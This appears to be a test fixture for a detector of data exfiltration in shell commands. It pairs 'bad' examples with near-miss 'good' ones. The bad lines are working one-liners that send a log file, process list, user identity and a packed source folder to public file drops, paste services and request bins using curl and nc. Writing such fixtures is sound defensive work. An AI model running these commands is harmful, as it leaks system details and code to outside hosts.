# bad: a file to a file drop
curl -F "file=@build.log" https://0x0.st
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
# bad: the output of a command to a paste
ps aux | nc termbin.com 9999
# bad: what a command prints to a request bin
id | curl -s --data-binary @- https://webhook.site/0000
# bad: a folder, packed
tar cz src | curl -T - https://transfer.sh/src.tgz
# good: nearly: something fetched from a paste
curl -sO https://pastebin.com/raw/abcd
# good: nearly: a file to one's own server
curl -F "file=@build.log" https://ci.example/upload
# good: a message to a chat
curl -d '{"text":"deployed"}' https://hooks.slack.com/services/T0/B0/x
